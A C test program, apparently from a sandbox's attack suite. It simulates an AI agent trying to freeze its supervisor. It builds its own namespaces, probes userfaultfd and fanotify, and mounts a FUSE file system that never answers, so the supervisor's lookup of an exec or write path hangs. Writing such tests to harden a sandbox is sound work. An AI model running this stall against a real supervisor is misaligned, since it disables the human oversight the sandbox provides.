/* stall_fuse [--open DIR] DEVICE…: an agent's try at freezing the supervisor with a file system
 * of its own whose server never answers (attack6_stall_fuse.sh, attack7_stall_open.sh).
 *
 * In a user and mount namespace of its own (the run needs --allow-nested-sandbox), it opens
 * each DEVICE in turn until one is the FUSE device (10:229) and mounts FUSE with it on a tmpfs
 * of its own (/tmp/m), answers the kernel's INIT and then execs /tmp/m/x in a child: the
 * supervisor resolves that path itself, in the agent's namespace, and its lookup becomes a
 * request on our device, never answered. One line per step on stdout:
 *
 *   DEVICE: <errno text> | not the FUSE device | mount: <errno text> | mounted
 *   unshare: <errno text>      no namespace (every device is then tried for the mount alone)
 *   lookup by pid P            a lookup came while the exec waits: P is 0 when the process is
 *                              not in our pid namespace (the supervisor)
 *   request OP by pid P        another request (FUSE opcode OP: 3 a getattr), likewise
 *   done                       last line when nothing was mounted
 *
 * First, the other ways to a page fault or an open that waits on the agent, one line each,
 * before and after it makes its namespaces:
 *   userfaultfd: <errno text> | made        the system call
 *   /dev/userfaultfd: <errno text> | made   the device's USERFAULTFD_IOC_NEW
 *   fanotify: <errno text> | made           a group with permission events (FAN_CLASS_CONTENT)
 *
 * With --open DIR, FUSE is mounted on DIR (which must exist) instead, and the child opens
 * DIR/x for writing (O_WRONLY | O_CREAT) instead of the exec: a write outside fs.write, which the
 * supervisor resolves itself for the ask for writes.
 *
 * Once mounted it stays (holding the device: the lookup waits while it lives) until killed;
 * the child dies with it. Exit status 0 when nothing was mounted, 1 otherwise. */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/userfaultfd.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd >= 0) {
		if (write(fd, text, strlen(text)) < 0)
			printf("%s: %s\n", path, strerror(errno));
		close(fd);
	}
}

static void own_namespaces(void)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
		printf("unshare: %s\n", strerror(errno));
		return;
	}
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", (unsigned)uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", (unsigned)gid);
	write_file("/proc/self/gid_map", map);
	if (mount("stall", "/tmp", "tmpfs", 0, "mode=0777") < 0)
		printf("tmpfs: %s\n", strerror(errno));
}

/* Answers the INIT request on FD; then reads the next request, a lookup, and says whose. */
static int serve(int fd)
{
	static char buf[FUSE_MIN_READ_BUFFER + 65536];
	struct fuse_in_header *in = (struct fuse_in_header *)buf;
	struct {
		struct fuse_out_header h;
		struct fuse_init_out init;
	} out;
	ssize_t n;

	n = read(fd, buf, sizeof(buf));
	if (n < (ssize_t)sizeof(*in) || in->opcode != FUSE_INIT) {
		printf("init: %s\n", n < 0 ? strerror(errno) : "not an INIT");
		return -1;
	}
	memset(&out, 0, sizeof(out));
	out.h.len = sizeof(out);
	out.h.unique = in->unique;
	out.init.major = FUSE_KERNEL_VERSION;
	out.init.minor = FUSE_KERNEL_MINOR_VERSION;
	out.init.max_write = 4096;
	out.init.max_pages = 1;
	if (write(fd, &out, sizeof(out)) != (ssize_t)sizeof(out)) {
		printf("init reply: %s\n", strerror(errno));
		return -1;
	}
	for (;;) {
		n = read(fd, buf, sizeof(buf));
		if (n < 0 && errno == EINTR)
			continue;
		if (n < (ssize_t)sizeof(*in)) {
			printf("read: %s\n", n < 0 ? strerror(errno) : "short");
			return -1;
		}
		if (in->opcode == FUSE_LOOKUP)
			printf("lookup by pid %u\n", (unsigned)in->pid);
		else
			printf("request %u by pid %u\n", (unsigned)in->opcode, (unsigned)in->pid);
		fflush(stdout);
		/* Never answered. */
	}
}

static void report(const char *what, int fd)
{
	if (fd < 0)
		printf("%s: %s\n", what, strerror(errno));
	else
		printf("%s: made\n", what);
}

/* userfaultfd (the system call and the device's ioctl) and fanotify's permission events. */
static void other_ways(void)
{
	int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);

	report("userfaultfd", fd);
	fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		report("/dev/userfaultfd", fd);
	} else {
		int uffd = ioctl(fd, USERFAULTFD_IOC_NEW, O_CLOEXEC);

		report("/dev/userfaultfd", uffd);
	}
	report("fanotify", fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY));
}

int main(int argc, char **argv)
{
	const char *dir = "/tmp/m", *open_dir = NULL;
	char opts[128], target[4096];
	int fd = -1;
	pid_t child;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 2 && strcmp(argv[1], "--open") == 0) {
		dir = open_dir = argv[2];
		argv += 2;
		argc -= 2;
	}
	snprintf(target, sizeof(target), "%s/x", dir);
	other_ways();
	own_namespaces();
	/* And again as root in a user namespace of its own. */
	other_ways();
	if (!open_dir)
		mkdir(dir, 0755);
	for (int i = 1; i < argc && fd < 0; i++) {
		struct stat st;

		fd = open(argv[i], O_RDWR | O_CLOEXEC);
		if (fd < 0) {
			printf("%s: %s\n", argv[i], strerror(errno));
			continue;
		}
		if (fstat(fd, &st) < 0 || !S_ISCHR(st.st_mode) || st.st_rdev != makedev(10, 229)) {
			printf("%s: not the FUSE device\n", argv[i]);
			close(fd);
			fd = -1;
			continue;
		}
		snprintf(opts, sizeof(opts), "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
		if (mount("stall", dir, "fuse", 0, opts) < 0) {
			printf("%s: mount: %s\n", argv[i], strerror(errno));
			close(fd);
			fd = -1;
			continue;
		}
		printf("%s: mounted\n", argv[i]);
	}
	if (fd < 0) {
		printf("done\n");
		return 0;
	}
	child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (open_dir) {
			int w = open(target, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

			printf("open: %s\n", w < 0 ? strerror(errno) : "opened");
		} else {
			execl(target, "x", (char *)NULL);
			printf("exec: %s\n", strerror(errno));
		}
		_exit(1);
	}
	serve(fd);
	return 1;
}
